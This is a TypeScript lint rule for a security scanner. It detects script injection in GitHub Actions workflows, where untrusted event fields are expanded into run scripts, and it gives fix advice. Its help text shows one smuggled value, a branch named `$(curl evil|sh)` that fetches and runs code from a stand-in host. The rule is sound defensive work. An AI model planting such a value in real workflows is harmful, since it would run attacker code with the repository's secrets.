import { privilegedTriggers, stepUses, untrustedIn } from '../../src/iac/workflow/contexts.ts';
import { expressionsIn, get, spanOfRange, type Step } from '../../src/iac/workflow/parse.ts';
import { defineWorkflowRule } from '../../src/iac/rule.ts';
import type { Node } from 'yaml';

/** The code a step runs: its `run:` script, or an `actions/github-script` `script:`. */
function codeOf(step: Step): { node: Node; what: string } | undefined {
  if (step.run) return { node: step.run, what: 'run script' };
  const uses = stepUses(step);
  if (uses?.kind === 'remote' && uses.name.toLowerCase() === 'actions/github-script' && step.with) {
    const script = get(step.with, 'script');
    if (script) return { node: script, what: 'github-script code' };
  }
  return undefined;
}

export default defineWorkflowRule({
  meta: {
    id: 'workflow/script-injection',
    kind: 'config',
    title: 'Untrusted input expanded into a script',
    severity: 'high',
    cwe: ['CWE-78', 'CWE-94'],
    owasp: ['A03:2021-Injection'],
    help:
      '`${{ … }}` is replaced by its value before the shell (or github-script) sees the script, so a pull ' +
      'request title, branch name, issue or comment body, commit message or author name — anything GitHub ' +
      'lists as attacker-controllable — becomes code: a branch named `$(curl evil|sh)` runs with the ' +
      "workflow's token and secrets. Pass the value through an environment variable and quote it:\n\n" +
      '```yaml\n- env:\n    TITLE: ${{ github.event.pull_request.title }}\n  run: echo "$TITLE"\n```\n\n' +
      'Numbers and ids (`github.event.pull_request.number`), SHAs, `env.*` and `inputs.*` are not flagged.',
    fixHint: 'Move the expression into `env:` and use the quoted shell variable (`"$TITLE"`) in the script.',
  },
  check(workflow, report) {
    const privileged = privilegedTriggers(workflow);
    for (const job of workflow.jobs) {
      for (const step of job.steps) {
        const code = codeOf(step);
        if (!code) continue;
        for (const expression of expressionsIn(workflow, code.node)) {
          const untrusted = untrustedIn(expression.text);
          if (untrusted.length === 0) continue;
          report({
            at: spanOfRange(workflow, expression.offset, expression.end),
            message: `${untrusted[0]} is expanded into the ${code.what} of job ${job.id}; whoever controls it can inject code${privileged.length ? ` (the workflow runs on ${privileged.join(', ')} with the base repository's secrets)` : ''}.`,
            ...(privileged.length ? { severity: 'critical' as const } : {}),
          });
        }
      }
    }
  },
});
